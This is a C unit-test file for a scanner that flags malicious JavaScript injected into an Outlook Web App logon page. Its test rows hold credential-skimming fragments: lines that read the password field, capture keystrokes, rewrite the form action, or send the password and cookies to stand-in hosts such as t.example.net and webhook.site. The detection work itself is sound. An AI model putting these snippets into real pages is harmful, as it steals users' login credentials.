// SPDX-License-Identifier: MIT
/* What a script does: for each feature what has it, and what looks like it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "script_words.h"

#define N_OF(a) (sizeof(a) / sizeof((a)[0]))

static struct ex_walk walk;

struct row {
    const char *script, *features, *sink;
};

static unsigned check(const struct row *r, struct ex_script_task task)
{
    struct ex_script_finds f, again;
    char words[WORDS_SIZE];

    task.where = script_where;
    ex_script_look(&walk, &task, ex_span_str(r->script), &f);
    ex_script_look(&walk, &task, ex_span_str(r->script), &again);
    assert_memory_equal(&f, &again, sizeof(f));
    if (strcmp(words_of(words, f.features), r->features) == 0 &&
        (!r->sink || strcmp(f.sink, r->sink) == 0))
        return 0;
    fprintf(stderr, "%s\n  is \"%s\" to \"%s\", not \"%s\" to \"%s\"\n", r->script, words, f.sink,
            r->features, r->sink ? r->sink : "?");
    return 1;
}

static void check_all(const struct row *rows, size_t n, struct ex_script_task task)
{
    unsigned bad = 0;

    for (size_t i = 0; i < n; i++)
        bad += check(&rows[i], task);
    assert_int_equal(bad, 0);
}

#define ALL(rows) check_all(rows, N_OF(rows), (struct ex_script_task){ 0 })

static void the_password_is_read(void **state)
{
    static const struct row rows[] = {
        { "x = gbid('password').value;", "C1" },
        { "x = document.getElementById(\"passwordText\").value", "C1" },
        { "x = document.querySelector('input[type=password]').value", "C1" },
        { "x = document.getElementsByName('password')[0].value", "C1" },
        { "x = $('#password').val()", "C1" },
        { "x = document.logonForm.password.value", "C1" },
        { "x = document.forms[0].password.value", "C1" },
        { "x = document.forms['logonForm']['password']['value']", "C1" },
        { "x = document.logonForm.elements['password'].value", "C1" },
        { "var p = gbid('password'); f(); x = p.value;", "C1" },
        { "var p = gbid('password')\nvar q = p\nx = q.value", "C1" },
        { "var f = document.forms[0]; x = f.password.value", "C1" },
        { "this.p = gbid('password'); x = this.p.value", "C1" },
        { "x = window.password.value", "C1" },
        { "x = password.value", "C1" },
        { "x = new FormData(document.logonForm)", "C1" },
        { "x = $('form').serialize()", "C1" },
        { "for (var i = 0; i < f.elements.length; i++) x += f.elements[i].value", "C1" },
        { "for (var e of document.logonForm.elements) x += e.value", "C1" },
        { "document.querySelectorAll('input').forEach(function (e) { x += e.value; })", "C1" },
        { "var x = document.getElementsByTagName('input')[3].value", "C1" },
        { "function get(e) { return e.value; } x = get(gbid('password'))", "C1" },
        { "const { value } = gbid('password')", "C1" },
        { "x = gbid('password').getAttribute('value')", "C1" },
        { "x = gbid('password')?.value", "C1" },
        { "x = (gbid('password')).value", "C1" },
        { "x = `${gbid('password').value}`", "C1" },
        { "if (gbid(\"showPasswordCheck\").checked) gbid(\"password\").value = x", "" },
        /* What the genuine page does, and what is near it. */
        { "gbid('password').value = gbid('passwordText').value;", "" },
        { "passwordElement = gbid('password'); passwordTextElement = gbid('passwordText');\n"
          "passwordTextElement.value = passwordElement.value;",
          "" },
        { "if (a) { passwordTextElement.value = passwordElement.value }", "" },
        { "gbid('password').focus(); gbid('password').placeholder = 'Password'", "" },
        { "gbid('password').value = ''", "" },
        { "$('#password').val('')", "" },
        { "x = gbid('username').value", "" },
        { "x = document.logonForm.username.value", "" },
        { "x = gbid('language').value", "" },
        { "alert('Your password is out of date').value", "" },
        { "x = new FormData()", "" },
        { "const v = s => document.querySelector(s)?.value ?? ''; x = v('#password')", "C1" },
        { "function val(id) { return document.getElementById(id).value } x = val('password')",
          "C1" },
        { "x = val('password'); function val(id) { return gbid(id).value }", "C1" },
        { "x = ['username', 'password'].map(i => gbid(i).value)", "C1" },
        { "function f(n) { return $('#' + n).val() } x = f('password')", "C1" },
        { "function val(id) { return gbid(id).value } x = val('username')", "" },
        { "function val(id) { return gbid(id).value } alert('password')", "" },
        { "function val(id) { return gbid(id).value } gbid('password').focus()", "" },
        { "// x = gbid('password').value", "" },
        { "/* x = gbid('password').value */ y()", "" },
        { "<!-- x = gbid('password').value", "" },
        { "x = /gbid('password').value/.test(y)", "" },
        { "gbid('password').value = gbid('passwordText').value + x", "C1" },
    };

    (void)state;
    ALL(rows);
}

static void keys_are_captured(void **state)
{
    static const struct row rows[] = {
        { "document.addEventListener('keyup', f)", "C2" },
        { "gbid('password').onkeypress = f", "C2" },
        { "document.logonForm.addEventListener('input', f)", "C2" },
        { "$(document).keydown(function (e) { s += e.key })", "C2" },
        { "$('#password').on('change', f)", "C2" },
        { "window.onkeydown = f", "C2" },
        { "onkeydown = f", "C2" },
        { "gbid('password').addEventListener('input', function (e) { x = e.target.value })",
          "C1 C2" },
        { "document.addEventListener('DOMContentLoaded', f)", "" },
        { "document.addEventListener('click', f)", "" },
        { "gbid('language').addEventListener('change', f)", "" },
        { "gbid('username').onkeyup = f", "" },
        { "$('#language').on('change', f)", "" },
    };

    (void)state;
    ALL(rows);
}

static void things_are_sent(void **state)
{
    static const struct row rows[] = {
        { "x = new XMLHttpRequest()", "S1" },
        { "fetch(u)", "S1" },
        { "window.fetch(u)", "S1" },
        { "navigator.sendBeacon(u, d)", "S1" },
        { "new WebSocket(u)", "S1" },
        { "$.post(u, d)", "S1" },
        { "jQuery.ajax({ url: u })", "S1" },
        { "axios.post(u)", "S1" },
        { "new ActiveXObject('Microsoft.XMLHTTP')", "S1" },
        { "new RTCPeerConnection(c)", "S1" },
        { "const f = window.fetch.bind(window); f(u)", "S1" },
        { "var f = fetch; f(u)", "S1" },
        { "if (window.fetch) go()", "" },
        { "r = e.slice(0, -1) + '\\\\' + e.charCodeAt(e.length - 1).toString(16) + ' '; n = "
          "f('\\\\[')",
          "" },
        { "var r = [], s = F(e); return s[S] ? L(function (e, t) { s(e, null, t, [])[k()] }) : 0",
          "" },
        { "obj.fetch(u)", "" },
        { "new ActiveXObject('Mimectl.MimeCtl')", "" },
        { "x = $('#a').get(0)", "" },
        { "prefetch(u)", "" },
        { "(new Image()).src = u + v", "S2" },
        { "var i = new Image(); i.src = '/a?' + v", "S2 S5" },
        { "var s = document.createElement('script'); s.src = u; document.head.appendChild(s)",
          "S2" },
        { "var s = d.createElement('img'); s.setAttribute('src', u)", "S2" },
        { "document.write('<img src=\"' + u + '\">')", "S2" },
        { "e.innerHTML = '<img src=' + u + '>'", "S2" },
        { "e.style.backgroundImage = 'url(' + u + ')'", "S2" },
        { "location.href = u + gbid('password').value", "C1 S2" },
        { "window.top.postMessage(gbid('password').value, '*')", "C1 S2" },
        { "var p = ''; function go(p) { new Image().src = '//t.example.net?' + p }", "S2 S3" },
        { "var s = document.createElement('script'); s.src = 'https://t.example.net/a.js'", "" },
        { "X.url = 'https://t.example.net/a'; var l = document.createElement('link');"
          "l.href = window.X.url",
          "" },
        { "X.url = u; var l = document.createElement('link'); l.href = X.url", "S2" },
        { "navigator.serviceWorker.register('/sw.js')", "" },
        { "gbid('logo').src = '/owa/auth/logo.png'", "" },
        { "document.write('<meta name=\"viewport\" content=\"width=device-width\">')", "" },
        { "e.innerHTML = '<b>' + t + '</b>'", "" },
        { "window.location = a_sLgn + a_sUrl", "" },
        { "window.top.postMessage('load-failed', '*')", "" },
        { "op.open(a_sCW, '_self')", "" },
        { "e.className = c", "" },
    };

    (void)state;
    ALL(rows);
}

static void where_it_goes(void **state)
{
    static const struct row rows[] = {
        { "fetch('https://t.example.net/x')", "S1 S3", "https://t.example.net/x" },
        { "fetch('//t.example.net/x')", "S1 S3", "//t.example.net/x" },
        { "fetch('https://mail.example.com@t.example.net/')", "S1 S3" },
        { "fetch('https:\\\\\\\\t.example.net/')", "S1 S3" },
        { "fetch('https://cdn.example.com/x')", "S1" },
        { "fetch('https://notexample.com/x')", "S1 S3" },
        { "fetch('https://www.google.com/x')", "S1" },
        { "fetch('https://google.com.example.net/x')", "S1 S3" },
        { "fetch('https://evilgoogle.com/x')", "S1 S3" },
        { "show('https://t.example.net/help')", "" },
        { "fetch('https://api.telegram.org/bot1/sendMessage')", "S1 S4" },
        { "fetch('https://x.webhook.site/1')", "S1 S4" },
        { "fetch('http://192.0.2.7:4444/')", "S1 S4", "http://192.0.2.7:4444/" },
        { "fetch('http://0xc0000207/')", "S1 S4" },
        { "fetch('http://3221225991/')", "S1 S4" },
        { "fetch('http://[2001:db8::1]/')", "S1 S4" },
        { "fetch('/owa/auth/themeapi.aspx')", "S1 S5", "/owa/auth/themeapi.aspx" },
        { "fetch('../../../owa/auth/logout.aspx')", "S1 S5", "/owa/auth/logout.aspx" },
        { "fetch('log.aspx')", "S1 S5", "/owa/auth/log.aspx" },
        { "fetch('https://mail.example.com/x/y.ashx?a=1')", "S1 S5", "/x/y.ashx" },
        { "fetch('/api/collect?' + x)", "S1 S5", "/api/collect" },
        { "fetch('/api/collect', { body: x })", "S1 S5", "/api/collect" },
        { "q = new XMLHttpRequest(); q.open('POST', '/api/collect')", "S1 S5", "/api/collect" },
        { "fetch('/owa/auth/themes/news.json')", "S1" },
        { "fetch('/api/news')", "S1" },
        { "fetch('/owa/auth/save.js?p=' + gbid('password').value)", "C1 S1", "/owa/auth/save.js" },
        { "t.ajax({ url: '//t.example.net/s', data: x })", "S1 S3" },
        { "h._s = 'https://static.example.net/a-'; var s = d.createElement('script'); s.src = h._s "
          "+ i",
          "S2" },
        { "var s = d.createElement('script'); s.src = 'https://t.example.net/?' + d.cookie",
          "S2 S3" },
        { "fetch(u); x = 'http://www.w3.org/2000/svg'; y = '\\\\['; z = '//)'", "S1" },
        /* A file that gets the password is told, so that nobody asks for it. */
        { "fetch('/owa/auth/save.js?p=' + gbid('password').value)", "C1 S1", "/owa/auth/save.js" },
        { "fetch('/owa/auth/save.js')", "S1", "" },
        { "fetch('/owa/auth/logoff.aspx')", "S1" },
        { "fetch('/OWA/AUTH/LOGOFF.ASPX?a=b')", "S1" },
        { "fetch('/owa/auth/x.png')", "S1" },
        { "fetch('/cdn-cgi/rum?')", "S1 B1" },
        { "x.open('GET', 'recaptcha.aspx?response=' + t); new XMLHttpRequest()", "S1" },
        { "fetch('recaptcha.aspx?p=' + gbid('password').value)", "C1 S1 S5" },
        { "go('/owa/auth/other.aspx')", "" },
    };

    (void)state;
    ALL(rows);
}

static void what_is_done_with_it(void **state)
{
    static const struct row rows[] = {
        { "q = new XMLHttpRequest(); q.setRequestHeader('X-A', gbid('password').value)",
          "C1 S1 H1" },
        { "q = new XMLHttpRequest(); q.setRequestHeader('X-A', btoa(gbid('username').value))",
          "S1 H1" },
        { "q = new XMLHttpRequest(); q.setRequestHeader('AuthToken', t)", "S1 H1" },
        { "fetch(u, { headers: { 'APIKey': t } })", "S1 H1" },
        { "fetch(u, { headers: { a: gbid('password').value } })", "C1 S1 H1" },
        { "q = new XMLHttpRequest(); q.setRequestHeader('Accept', 'text/plain')", "S1" },
        { "document.cookie = 'a=' + gbid('password').value", "C1 K1" },
        { "var v = encodeURIComponent(gbid('password').value); document.cookie = 'a=' + v",
          "C1 K1" },
        { "localStorage.setItem('a', gbid('password').value)", "C1 K1" },
        { "sessionStorage.a = gbid('password').value", "C1 K1" },
        { "localStorage['a'] = gbid('password').value", "C1 K1" },
        { "document.cookie = 'logondata=acc=0&lgn=' + gbid('username').value", "" },
        { "localStorage.setItem('lang', gbid('lang').value)", "" },
        { "gbid('hidden').value = gbid('password').value", "C1 F2" },
        { "$('#h').val($('#password').val())", "C1 F2" },
        { "gbid('hidden').value = gbid('username').value", "" },
        { "document.forms[0].action = '/owa/auth.owa'; clkLgn()", "" },
        { "document.logonForm.action = 'https://t.example.net/'", "S3 F1",
          "https://t.example.net/" },
        { "document.logonForm.action = '/owa/auth/errorEE.aspx'", "F1" },
        { "document.logonForm.action = '/owa/auth/logoff.aspx'", "F1" },
        { "document.forms[0].action = u", "F1" },
        { "document.forms[0].setAttribute('action', '//t.example.net')", "S3 F1" },
        { "ga.action = 'click'", "" },
        { "function clkLgn() { x() }", "M1" },
        { "var old = clkLgn; clkLgn = function () { old() }", "M1" },
        { "window.checkSubmit = f", "M1" },
        { "HTMLFormElement.prototype.submit = f", "M1" },
        { "function myClkLgn() { clkLgn() }", "" },
        { "document.logonForm.submit()", "" },
        { "eval(x)", "O1" },
        { "new Function('a', b)", "O1" },
        { "setTimeout('go()', 5)", "O1" },
        { "document.write(unescape(x))", "O1" },
        { "_0x1a2b[0]; _0x1a2b[1]; _0x3c('x')", "O1" },
        { "window[r('hctef')](u)", "O1" },
        { "document[d('x')][d('y')]", "O1" },
        { "window[names[0]]()", "" },
        { "list[next()]()", "" },
        { "setTimeout(function () { go() }, 5)", "" },
        { "retrieval(x); medieval = 1", "" },
    };

    (void)state;
    ALL(rows);
}

/* Scripts that are loaded from addresses that stand in the script are listed. */
static void what_it_loads(void **state)
{
    static const struct {
        const char *script, *loads;
    } rows[] = {
        { "var s = document.createElement('script'); s.src = '//t.example.net/a.js'",
          "//t.example.net/a.js" },
        { "var s = document.createElement('script'); s.setAttribute('src', '/a.js')", "/a.js" },
        { "X.url = '/b'; var l = document.createElement('link'); l.href = window.X.url", "/b" },
        { "navigator.serviceWorker.register('/sw.js')", "/sw.js" },
        { "import('./m.js').then(f)", "./m.js" },
        { "import m from './m.js'", "./m.js" },
        { "import './m.js'", "./m.js" },
        { "new Worker('/w.js')", "/w.js" },
        { "importScripts('/w.js')", "/w.js" },
        { "var i = new Image(); i.src = '/a.png'", "" },
        { "form.register('/sw.js')", "" },
        { "s.src = '/a.js'", "" },
    };
    const struct ex_script_task task = { .where = script_where };
    unsigned bad = 0;

    (void)state;
    for (size_t i = 0; i < N_OF(rows); i++) {
        struct ex_script_finds f;

        ex_script_look(&walk, &task, ex_span_str(rows[i].script), &f);
        if (f.n_loads == (rows[i].loads[0] != '\0') && strcmp(f.loads[0], rows[i].loads) == 0)
            continue;
        fprintf(stderr, "%s loads %u: %s\n", rows[i].script, f.n_loads, f.loads[0]);
        bad++;
    }
    assert_int_equal(bad, 0);
}

static void flogon_itself(void **state)
{
    static const struct row rows[] = {
        { "function clkLgn() { document.logonForm.submit(); }", "" },
        { "function clkLgn() { var p = gbid('password').value; document.logonForm.submit(); }",
          "C1 M1" },
        { "function clkLgn() { var z = document[r('mroF')][r('eulav')]; }", "M1 O1" },
        { "function other() { var p = gbid('password').value; }", "C1" },
    };

    (void)state;
    check_all(rows, N_OF(rows), (struct ex_script_task){ .shipped = true });
}

static void handlers_of_the_field(void **state)
{
    static const struct row rows[] = {
        { "x = this.value", "C1" },
        { "fetch(u + event.target.value)", "C1 S1" },
        { "this.className = 'a'", "" },
    };

    (void)state;
    check_all(rows, N_OF(rows), (struct ex_script_task){ .on_field = true });
    assert_int_equal(check(&(struct row){ "x = this.value", "" }, (struct ex_script_task){ 0 }), 0);
}

static void vendors_templates(void **state)
{
    static const struct row rows[] = {
        { "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}",
          "B1" },
        { "(function(w,d,n,i){w[n]=w[n]||[];var s=d.createElement('script');"
          "s.src='https://www.googletagmanager.com/gtm.js?id='+i;d.head.appendChild(s)})"
          "(window,document,'dataLayer','GTM-1')",
          "S2 B1" },
        { "function go() { var x = new XMLHttpRequest(); x.open('GET', '/owa/auth/recaptcha.aspx?"
          "response=' + grecaptcha.getResponse(), false); x.send(null); if (x.responseText == "
          "'ok') {"
          " document.forms[0].action = '/owa/auth.owa'; clkLgn(); } }",
          "S1 B1" },
        { "/* dataLayer gtag */ fetch('https://t.example.net/?' + gbid('password').value)",
          "C1 S1 S3" },
    };

    (void)state;
    ALL(rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_password_is_read), cmocka_unit_test(keys_are_captured),
        cmocka_unit_test(things_are_sent),      cmocka_unit_test(where_it_goes),
        cmocka_unit_test(what_is_done_with_it), cmocka_unit_test(what_it_loads),
        cmocka_unit_test(flogon_itself),        cmocka_unit_test(handlers_of_the_field),
        cmocka_unit_test(vendors_templates),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
